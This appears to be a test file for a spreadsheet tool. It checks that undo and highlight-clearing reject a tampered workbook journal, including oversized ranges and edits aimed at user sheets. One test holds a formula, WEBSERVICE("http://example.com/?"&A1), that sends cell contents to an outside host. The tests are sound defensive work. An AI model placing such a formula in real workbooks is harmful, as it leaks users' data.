// 撤销 and 清除标记 over a file refuse a journal that was edited to act on the user's own data.
import * as ExcelJS from 'exceljs';
import { JournalRejectedError, supplementSheetPlan } from '../../../src/core/plan';
import type { JournalEntry } from '../../../src/core/plan';
import { loadWorkbook, markedSheetsOf, saveWorkbook } from '../../../src/hosts/file';
import { applyPlan, clearHighlights, readJournal, undoLast, writeJournal } from '../../../src/hosts/file/apply';

async function base(): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  for (const name of ['表1', '表2', '表3']) wb.addWorksheet(name).getCell('A1').value = `${name}标题`;
  const loaded = await loadWorkbook(new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer));
  applyPlan(loaded.workbook, supplementSheetPlan(loaded.grids));
  return (await loadWorkbook(await saveWorkbook(loaded.workbook))).workbook;
}

async function tampered(extra: JournalEntry): Promise<ExcelJS.Workbook> {
  const wb = await base();
  writeJournal(wb, { entries: [...readJournal(wb).entries, extra] });
  return (await loadWorkbook(await saveWorkbook(wb))).workbook;
}

const names = (wb: ExcelJS.Workbook) => wb.worksheets.map((ws) => ws.name);

test('a sheet juesuan created carries its marker, and 撤销 deletes it with the marker', async () => {
  const wb = await base();
  expect(markedSheetsOf(wb)).toEqual(['补充信息']);
  expect(undoLast(wb)?.createdSheets).toEqual(['补充信息']);
  expect(names(wb)).toEqual(['表1', '表2', '表3']);
  expect(markedSheetsOf(wb)).toEqual([]);
  expect(wb.definedNames.model).toEqual([]);
});

test('a journal listing the user sheets as created is refused, nothing deleted', async () => {
  const wb = await tampered({ action: 'supplement', createdSheets: ['表1', '表2', '表3', '补充信息'], cells: [], columns: [] });
  const before = names(wb);
  expect(() => undoLast(wb)).toThrow(JournalRejectedError);
  expect(() => undoLast(wb)).toThrow(/“表1”.*没有 juesuan 的新建标记/);
  expect(names(wb)).toEqual(before);
  expect(readJournal(wb).entries).toHaveLength(2);
});

test('a whole-sheet range is refused at once, not expanded', async () => {
  const wb = await tampered({
    action: 'highlight',
    createdSheets: [],
    cells: [{ sheet: '表1', address: 'A1:XFD1048576', fill: { color: null } }],
    columns: [],
  });
  expect(() => clearHighlights(wb)).toThrow(/无法安全地清除标记.*不是一个单元格地址/);
  expect(() => undoLast(wb)).toThrow(/不是一个单元格地址/);
});

test('a formula calling out of the workbook is not written back', async () => {
  const wb = await tampered({
    action: 'fill',
    createdSheets: [],
    columns: [],
    cells: [{ sheet: '表1', address: 'B2', value: { raw: { formula: 'WEBSERVICE("http://example.com/?"&A1)', result: 0 } } }],
  });
  expect(() => undoLast(wb)).toThrow(/公式/);
  expect(wb.getWorksheet('表1')!.getCell('B2').value).toBeNull();
});
